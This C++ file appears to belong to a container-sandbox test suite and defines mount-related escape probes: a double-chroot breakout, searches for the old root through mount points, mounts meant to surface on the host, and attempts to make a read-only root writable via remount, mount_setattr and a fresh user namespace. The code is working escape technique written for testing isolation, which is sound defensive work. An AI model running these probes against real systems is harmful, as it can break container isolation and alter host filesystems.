// Attacks on the root: climbing out of it, finding what is left of the old one, mounting through
// it.
#include <fcntl.h>
#include <linux/magic.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <sstream>
#include <vector>

#include "probe/probe.hpp"

namespace probe {
namespace {

std::vector<std::vector<std::string>> mount_table() {
  std::vector<std::vector<std::string>> table;
  std::istringstream lines{slurp("/proc/self/mountinfo")};
  for (std::string line; std::getline(lines, line);) {
    std::istringstream words{line};
    std::vector<std::string> fields;
    for (std::string word; words >> word;) fields.push_back(word);
    if (fields.size() >= 9) table.push_back(fields);
  }
  return table;
}

// The oldest way out: keep the root open, move it below with another chroot, climb past it.
Outcome break_chroot(const Facts& facts) {
  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot("/tmp") == -1) return blocked(failed("chroot(/tmp)"));
  (void)!fchdir(root);
  for (int i = 0; i < 64; ++i) (void)!chdir("..");
  (void)!chroot(".");
  return canary_visible(facts, "")
             ? reached("a second chroot() and 64 times chdir(\"..\") lead to the canary")
             : blocked("climbing ends at the own root");
}

Outcome look_from_working_directory(const Facts& facts) {
  std::array<char, 4096> path{};
  if (syscall(SYS_getcwd, path.data(), path.size()) == -1) return reached(failed("getcwd()"));
  if (path[0] != '/')
    return reached(std::string{"the working directory is outside: "} + path.data());
  std::string prefix = ".";
  for (int i = 0; i < 16; ++i, prefix += "/..") {
    if (canary_visible(facts, prefix))
      return reached("the canary is at " + prefix + facts["canary"]);
  }
  return blocked(std::string{"the working directory is "} + path.data());
}

// Through every mount point, and through "..", which at the root leads to what is mounted on top.
Outcome find_old_root(const Facts& facts) {
  std::vector<std::string> prefixes{"", "/.."};
  for (const auto& fields : mount_table()) {
    prefixes.push_back(fields[4]);
    prefixes.push_back(fields[4] + "/..");
  }
  for (const std::string& prefix : prefixes) {
    if (canary_visible(facts, prefix))
      return reached("the canary is at " + prefix + facts["canary"]);
  }
  return blocked(std::to_string(prefixes.size()) + " ways tried, no canary");
}

// Places that the host has too: its own where the container has no root yet, else those of the root
// directory that the container runs in, one of them on a mount below it.
Outcome mount_for_the_host_to_see(const Facts&) {
  int mounted = 0;
  for (const char* place : {"/mnt/tree/target", "/mnt/tree/sub/target", "/mnt/target", "/tmp"}) {
    mounted += mount("tmpfs", place, "tmpfs", 0, "size=4k") == 0 ? 1 : 0;
  }
  if (mounted == 0) return blocked(failed("mount()"));
  return attempted(std::to_string(mounted) + " mounts were made");
}

Outcome find_propagation(const Facts&) {
  const auto table = mount_table();
  if (table.empty()) return not_testable("/proc/self/mountinfo cannot be read");
  for (const auto& fields : table) {
    if (fields[6] != "-") return reached(fields[4] + " is " + fields[6]);
  }
  return blocked(std::to_string(table.size()) + " mounts, all private");
}

// `path` is a directory that was bound read-only.
Outcome write_file_in(const Facts& facts) {
  const std::string path = facts["path"] + "/written";
  const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (fd == -1) return blocked(failed("open(" + path + ", O_CREAT)"));
  close(fd);
  unlink(path.c_str());
  return reached(path + " was created");
}

void take_read_only_off() {
  mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr);
  mount_attr attributes{};
  attributes.attr_clr = MOUNT_ATTR_RDONLY;
  syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attributes, sizeof attributes);
  // And by a copy, in which the flag might be forgotten.
  mount("/", "/mnt", nullptr, MS_BIND, nullptr);
  mount(nullptr, "/mnt", nullptr, MS_REMOUNT | MS_BIND, nullptr);
}

// As whoever one is, and then as root of a user namespace of one's own, who has every capability.
Outcome make_root_writable(const Facts&) {
  for (const bool nested : {false, true}) {
    if (nested) unshare(CLONE_NEWUSER | CLONE_NEWNS);
    take_read_only_off();
    for (const char* directory : {"", "/mnt"}) {
      const std::string path = std::string{directory} + "/written";
      const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
      if (fd == -1 && errno == EROFS) continue;
      if (fd == -1) return reached("the root is not read-only: " + failed("open(" + path + ")"));
      close(fd);
      unlink(path.c_str());
      return reached(path + " was created");
    }
  }
  return blocked("the root stays read-only: " + failed("open()"));
}

Outcome find_host_mount(const Facts& facts) {
  return canary_visible(facts, "") || access((facts["path"] + "/arrived").c_str(), F_OK) == 0
             ? reached("what the host mounted has arrived")
             : blocked("nothing has arrived");
}

Outcome check_proc_is_proc(const Facts&) {
  struct statfs status {};
  if (statfs("/proc", &status) == -1) return reached(failed("statfs(/proc)"));
  if (status.f_type != PROC_SUPER_MAGIC) return reached("/proc is no proc file system");
  return blocked("/proc is a proc file system");
}

constexpr std::array attacks{
    Attack{"MNT-01", break_chroot},       Attack{"MNT-02", look_from_working_directory},
    Attack{"MNT-03", find_old_root},      Attack{"MNT-06", mount_for_the_host_to_see},
    Attack{"MNT-07", find_host_mount},    Attack{"MNT-08", find_propagation},
    Attack{"MNT-09", write_file_in},      Attack{"MNT-10", write_file_in},
    Attack{"MNT-14", check_proc_is_proc}, Attack{"MNT-ROROOT", write_file_in},
    Attack{"MNT-21", make_root_writable},
};

}  // namespace

std::span<const Attack> mount_attacks() {
  return attacks;
}

}  // namespace probe
